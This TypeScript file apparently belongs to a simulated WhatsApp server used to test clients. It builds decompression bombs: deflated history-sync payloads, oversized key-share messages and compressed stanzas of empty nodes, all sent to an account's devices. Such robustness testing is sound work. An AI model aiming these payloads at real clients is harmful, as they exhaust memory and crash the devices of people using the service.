import { deflateSync } from 'node:zlib'
import { write } from '../people/writing.ts'
import type { Message } from '../proto/message.ts'
import type { WhatsApp } from '../whatsapp.ts'
import { node } from '../wire/node.ts'
import { encodeBareNode } from '../wire/node-encoder.ts'
import { nodeTag } from '../wire/node-tags.ts'

interface Bomb {
  readonly person: string
  /** What it unfolds to, in bytes. */
  readonly bytes: number
}

/** What is small until somebody unpacks it. */
export const bombActions = {
  /** The phone hands its clients a part of its history: empty conversations, two bytes each, deflated. Returns the id of what carries it. */
  throwHistory: (whatsapp: WhatsApp, { person, bytes }: Bomb): Promise<string> => {
    const author = whatsapp.directory.get(person)
    return write(whatsapp, { author, to: author, message: historyOf(bytes), more: { category: 'peer' } })
  },

  /** The phone writes to its clients what is not packed: a message of so many bytes of empty objects. Returns its id. */
  throwMessage: (whatsapp: WhatsApp, { person, bytes }: Bomb): Promise<string> => {
    const author = whatsapp.directory.get(person)
    const keys = { keys: Array.from({ length: bytes >> 1 }, () => ({})) }
    const message = { protocolMessage: { type: 'APP_STATE_SYNC_KEY_SHARE', appStateSyncKeyShare: keys } }
    return write(whatsapp, {
      author,
      to: author,
      message: message as Message,
      more: { category: 'peer' },
    })
  },

  /** The server sends the clients of an account a stanza that holds nothing but empty nodes: compressed, unless it is to be as it is. */
  throwStanza: (
    { directory }: WhatsApp,
    { person, bytes, asItIs = false }: Bomb & { readonly asItIs?: boolean },
  ): void => {
    const stanza = asItIs ? Buffer.concat([Buffer.of(0), manyNodes(bytes)]) : stanzaOf(bytes)
    for (const { line } of directory.get(person).devices.values()) line?.sendBytes(stanza)
  },
}

const packed = new Map<string, Buffer>()

/** Deflated once for all bombs of its kind and size, because that takes a second. */
function deflated(kind: string, bytes: number, make: () => Uint8Array): Buffer {
  const name = `${kind} ${bytes}`
  const known = packed.get(name) ?? deflateSync(make(), { level: 9 })
  packed.set(name, known)
  return known
}

/** The field `conversations` of a `HistorySync`, with nothing in it. */
const emptyConversation = Buffer.of(0x12, 0)

function historyOf(bytes: number): Message {
  const payload = deflated('history', bytes, () => Buffer.alloc(bytes, emptyConversation))
  return {
    protocolMessage: {
      type: 'HISTORY_SYNC_NOTIFICATION',
      historySyncNotification: {
        syncType: 'INITIAL_BOOTSTRAP',
        chunkOrder: 1,
        progress: 100,
        initialHistBootstrapInlinePayload: payload,
      },
    },
  }
}

/** The bit that says that zlib compressed the rest. */
const compressed = 2
const longestList = 65_535

function stanzaOf(bytes: number): Uint8Array {
  return Buffer.concat([Buffer.of(compressed), deflated('stanza', bytes, () => manyNodes(bytes))])
}

/** A node with lists of empty nodes. */
function manyNodes(bytes: number): Uint8Array {
  const empty = encodeBareNode(node('iq'))
  const [, , name = 0] = empty
  const full = (count: number) => Buffer.of(nodeTag.list8, 2, name, nodeTag.list16, count >> 8, count & 0xff)
  const group = Buffer.concat([full(longestList), Buffer.alloc(longestList * empty.length, empty)])
  const groups = Math.max(1, Math.floor(bytes / group.length))
  return Buffer.concat([full(groups), ...Array.from({ length: groups }, () => group)])
}
